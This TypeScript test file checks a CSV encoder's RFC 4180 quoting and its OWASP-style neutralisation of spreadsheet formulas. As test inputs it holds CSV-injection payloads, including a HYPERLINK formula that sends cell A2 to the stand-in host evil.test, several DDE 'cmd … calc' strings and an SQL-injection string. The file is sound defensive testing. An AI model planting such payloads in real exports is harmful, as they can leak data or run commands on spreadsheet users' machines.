import assert from "node:assert/strict";
import { test } from "node:test";
import { csvField, csvRow } from "./csv.ts";

test("plain values are written as they are", () => {
  assert.equal(csvRow(["gpt-4o", 12, 0.5, true, false]), "gpt-4o,12,0.5,true,false\r\n");
});

test("a field with a comma, quote, CR or LF is quoted and its quotes doubled (RFC 4180)", () => {
  assert.equal(csvField("a,b"), '"a,b"');
  assert.equal(csvField('say "hi"'), '"say ""hi"""');
  assert.equal(csvField("line 1\nline 2"), '"line 1\nline 2"');
  assert.equal(csvField("cr\rhere"), '"cr\rhere"');
  assert.equal(csvField("crlf\r\n"), '"crlf\r\n"');
  assert.equal(csvField('"'), '""""');
  assert.equal(csvField("' OR 1=1 --"), "' OR 1=1 --");
});

test("null is empty; arrays and objects are JSON (quoted because JSON has quotes and commas)", () => {
  assert.equal(csvRow([null, undefined, "", ["a", "b"], { k: "v" }]), ',,,"[""a"",""b""]","{""k"":""v""}"\r\n');
  assert.equal(csvField([]), "[]");
});

test("a row ends with CRLF even when its last field is empty", () => {
  assert.equal(csvRow(["a", null]), "a,\r\n");
});

test("text a spreadsheet would run as a formula gets a leading quote inside a quoted field (OWASP)", () => {
  assert.equal(csvField('=HYPERLINK("http://evil.test/?"&A2,"x")'), '"\'=HYPERLINK(""http://evil.test/?""&A2,""x"")"');
  assert.equal(csvField("+cmd|' /C calc'!A0"), "\"'+cmd|' /C calc'!A0\"");
  assert.equal(csvField("-2+3+cmd|' /C calc'!A0"), "\"'-2+3+cmd|' /C calc'!A0\"");
  assert.equal(csvField("@SUM(1+1)*cmd|' /C calc'!A0"), "\"'@SUM(1+1)*cmd|' /C calc'!A0\"");
  assert.equal(csvField("\t=1+1"), '"\'\t=1+1"');
  assert.equal(csvField("\r=1+1"), '"\'\r=1+1"');
  for (const trigger of ["=", "+", "-", "@", "\t", "\r"]) assert.equal(csvField(trigger), `"'${trigger}"`, JSON.stringify(trigger));
  assert.equal(csvRow(["gpt-4o", "=1+1", "-"]), 'gpt-4o,"\'=1+1","\'-"\r\n');
  // Only the first character counts: these are ordinary text.
  assert.equal(csvField("a=1"), "a=1");
  assert.equal(csvField(" =1"), " =1");
  assert.equal(csvField("\n=1"), '"\n=1"');
});

test("numbers stay numbers: plain decimals written as strings and numeric values are left alone", () => {
  assert.deepEqual(["-0.0012", "+5", "-5", "0.000750000000", "-.5", "1e-7", "-1.5E+3"].map(csvField), [
    "-0.0012",
    "+5",
    "-5",
    "0.000750000000",
    "-.5",
    "1e-7",
    "-1.5E+3",
  ]);
  assert.equal(csvRow([-0.5, -12n, -1e-7]), "-0.5,-12,-1e-7\r\n");
  assert.deepEqual(["-1-1", "-0.5 ", "-1e", "--1", "-1,5", "+0x10"].map(csvField), [
    '"\'-1-1"',
    '"\'-0.5 "',
    '"\'-1e"',
    '"\'--1"',
    '"\'-1,5"',
    '"\'+0x10"',
  ]);
});
